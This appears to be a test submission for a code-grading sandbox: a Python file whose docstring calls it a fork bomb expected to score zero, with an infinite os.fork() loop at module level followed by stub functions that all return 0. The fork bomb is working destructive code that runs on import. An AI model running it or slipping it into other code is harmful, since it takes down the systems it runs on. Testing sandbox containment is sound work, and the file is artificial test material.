"""A fork bomb.

Deserves: 0
Says: The sandbox lets a submission start no other process
"""

import numpy as np
import os

while True:
    os.fork()


def churn_rule(days_since_last_transaction):
    return 0


def one_hot(labels, num_classes):
    return 0


def standardize(x):
    return 0


def accuracy(y_true, y_pred):
    return 0
